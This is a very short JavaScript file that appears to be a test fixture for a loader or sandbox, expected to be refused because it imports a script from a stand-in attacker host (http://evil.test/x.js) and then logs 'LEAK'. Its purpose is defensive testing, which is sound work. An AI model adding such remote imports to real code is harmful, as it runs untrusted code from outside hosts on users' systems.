// Imports a file that is no part of the program.
// ends: refused

import 'http://evil.test/x.js';
console.log('LEAK');
